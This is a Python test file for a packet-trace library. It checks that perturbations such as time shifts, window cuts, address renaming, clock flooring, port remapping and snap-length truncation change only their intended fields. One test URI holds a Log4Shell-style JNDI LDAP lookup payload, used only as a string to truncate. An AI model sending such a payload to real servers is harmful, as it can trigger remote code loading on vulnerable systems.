"""Perturbations of recording conditions: each changes what it says and nothing else, checked
with pandas on the packet table (not with the perturbation's own helpers)."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
import yaml
from packet_factory import BASE, REPO, handshake, packet_table, portless, tcp, udp

from tracelab.robustness.bootstrap import job_rng
from tracelab.robustness.perturbations import (
    PERTURBATIONS,
    PerturbationContext,
    perturbation,
)
from tracelab.robustness.robustness_windows import perturbation_record

CLIENT, SERVER = "198.18.0.2", "198.18.1.47"
SCHEMA = yaml.safe_load((REPO / "workflow/tracelab/schemas/config.schema.yaml").read_text())
DEFAULTS = SCHEMA["properties"]["robustness"]["properties"]


def context(name: str, **params) -> PerturbationContext:
    defaults = DEFAULTS["parameters"]["properties"].get(name, {}).get("properties", {})
    return PerturbationContext(rng=job_rng(1, "t", name),
                               params={k: v["default"] for k, v in defaults.items()} | params,
                               window_s=10.0, min_coverage=0.5)


def apply(name: str, rows: list[dict], **params) -> tuple[pd.DataFrame, pd.DataFrame]:
    table = packet_table(rows)
    perturbed = PERTURBATIONS[name].func(table, context(name, **params))
    return table.to_pandas(), perturbed.to_pandas()


def test_every_registered_perturbation_is_described_and_the_default_list():
    assert set(DEFAULTS["perturbations"]["default"]) == set(PERTURBATIONS)
    config = yaml.safe_load((REPO / "config/config.yaml").read_text())["robustness"]
    assert config["perturbations"] == DEFAULTS["perturbations"]["default"]
    for name, spec in PERTURBATIONS.items():
        assert spec.name == name and len(spec.description) > 30
    with pytest.raises(ValueError, match="registered twice"):
        perturbation("hour_shift", description="again")


def sweep(seconds: float, step: float = 0.5) -> list[dict]:
    return [tcp(t, CLIENT, 40000 + i, f"198.18.2.{i % 200}", 8443, "S")
            for i, t in enumerate(np.arange(0, seconds, step))]


@pytest.mark.parametrize("name, hours", [("hour_shift", 12), ("date_shift", 24 * 100)])
def test_time_shifts_move_every_timestamp_and_nothing_else(name, hours):
    before, after = apply(name, sweep(30))
    assert ((after["ts"] - before["ts"]) == pd.Timedelta(hours=hours)).all()
    pd.testing.assert_frame_equal(before.drop(columns="ts"), after.drop(columns="ts"))


@pytest.mark.parametrize("name, windows", [("first_half", [0, 1]), ("second_half", [1, 2]),
                                           ("shorter_capture", None)])
def test_cuts_keep_whole_windows(name, windows):
    # 3 windows of 10 s (the last, 29.5 s - 20 s, covers more than half): halves of 2 windows.
    before, after = apply(name, sweep(30))
    window = (before["ts"] - before["ts"].min()) // pd.Timedelta(seconds=10)
    kept = set(window[before["frame"].isin(after["frame"])])
    if windows is None:  # 30% of 3 windows: one window, at a random start
        assert len(kept) == 1
    else:
        assert kept == set(windows)
    assert before[before["frame"].isin(after["frame"])]["frame"].tolist() == \
        after["frame"].tolist()


def test_names_become_addresses_only_where_the_trace_tells():
    rows = [udp(0, CLIENT, 5353, "198.18.0.53", 53, protocol="DNS",
                info="Standard query response 0x1a2b A www.example.com CNAME edge.example.net "
                     "A 93.184.216.34"),
            tcp(1, CLIENT, 40000, "www.example.com", 80, "S"),
            tcp(2, CLIENT, 40001, "47.1.18.198.host.example-hosting.net", 80, "S"),
            tcp(3, CLIENT, 40002, "ip-198-18-1-9.ec2.internal", 80, "S"),
            tcp(4, CLIENT, 40003, "printer.lan", 80, "S")]
    _, after = apply("names_to_addresses", rows)
    assert after["dst"].astype(str).tolist() == ["198.18.0.53", "93.184.216.34", SERVER,
                                                  "198.18.1.9", "printer.lan"]


def test_addresses_become_names_the_trace_gives_else_reverse_dns_names():
    rows = [udp(0, CLIENT, 5353, "198.18.0.53", 53, protocol="DNS",
                info="Standard query response 0x1a2b A www.example.com A 93.184.216.34"),
            tcp(1, CLIENT, 40000, "93.184.216.34", 80, "S"),
            tcp(2, "fe80::1", 40001, SERVER, 80, "S")]
    _, after = apply("addresses_to_names", rows, suffix="lab.invalid")
    assert after["dst"].astype(str).tolist() == ["53.0.18.198.lab.invalid", "www.example.com",
                                                  "47.1.18.198.lab.invalid"]
    assert after["src"].astype(str).tolist()[-1] == "fe80--1.lab.invalid"


@pytest.mark.parametrize("name, unit_ns", [("clock_us", 1_000), ("clock_ms", 1_000_000)])
def test_clock_resolution_floors_timestamps(name, unit_ns):
    rows = [tcp(t, CLIENT, 40000, SERVER, 80, "A") for t in (0.000123456, 0.0015, 2.7182818)]
    before, after = apply(name, rows)
    ns = before["ts"].astype("int64")
    assert after["ts"].astype("int64").tolist() == (ns - ns % unit_ns).tolist()


def test_ephemeral_ports_are_remapped_consistently_per_connection():
    rows = []
    for k, sport in enumerate((41000, 52000, 61000)):
        rows += handshake(k, CLIENT, sport, SERVER, 443)
    rows += [udp(5, CLIENT, 5353, "198.18.0.53", 53)]
    before, after = apply("ephemeral_ports", rows, lowest=1024)
    client = before["src"].astype(str) == CLIENT
    new = np.where(client, after["src_port"], after["dst_port"])
    old = np.where(client, before["src_port"], before["dst_port"])
    mapping = pd.DataFrame({"old": old, "new": new}).drop_duplicates()
    assert mapping["old"].is_unique and mapping["new"].is_unique  # one new port a connection
    assert (mapping["old"] != mapping["new"]).any() and (mapping["new"] >= 1024).all()
    server = np.where(client, after["dst_port"], after["src_port"])
    assert sorted(set(server)) == [53, 443]  # the services keep their ports


def test_snap_length_cuts_request_lines_to_the_captured_payload():
    uri = "/?x=${jndi:ldap://198.18.0.2:1389/a}"  # 36 characters
    rows = [portless(0, CLIENT, SERVER, "HTTP", http_method="GET", http_uri=uri),
            portless(1, CLIENT, SERVER, "HTTP", http_method="GET", http_uri="/a"),
            portless(2, SERVER, CLIENT, "HTTP", http_version="HTTP/1.1", http_status=404),
            portless(3, SERVER, CLIENT, "TLSv1.2", tls_message="Server Hello")]
    _, after = apply("snap_length", rows, payload_bytes=30)
    # "GET " leaves 26 bytes of the URI; "GET /a HTTP/1.1" (15 bytes) fits whole.
    assert after["http_uri"].tolist()[:2] == [uri[:26], "/a"]
    assert after["http_version"].isna().tolist() == [True, False, False, True]
    assert after["http_status"].tolist()[2] == 404
    assert after["tls_message"].tolist()[3] == "Server Hello"
    _, tiny = apply("snap_length", rows, payload_bytes=4)
    assert tiny["http_method"].isna().all() and tiny["tls_message"].isna().all()
    assert tiny["http_status"].isna().all()


def test_record_counts_kept_packets_offset_and_changed_values():
    table = packet_table(sweep(30))
    shifted = PERTURBATIONS["hour_shift"].func(table, context("hour_shift", hours=3))
    record = perturbation_record(table, shifted)
    assert record["time_offset_ns"] == 3 * 3600 * 10**9
    assert record["changed"]["ts"] == table.num_rows
    assert sum(record["changed"].values()) == table.num_rows
    half = PERTURBATIONS["first_half"].func(table, context("first_half"))
    record = perturbation_record(table, half)
    assert record["packets_out"] == half.num_rows < record["packets_in"]
    assert record["kept_from"] == int(BASE.value) and sum(record["changed"].values()) == 0
    with pytest.raises(ValueError, match="added packets"):
        perturbation_record(half, table)
    assert isinstance(shifted, pa.Table)
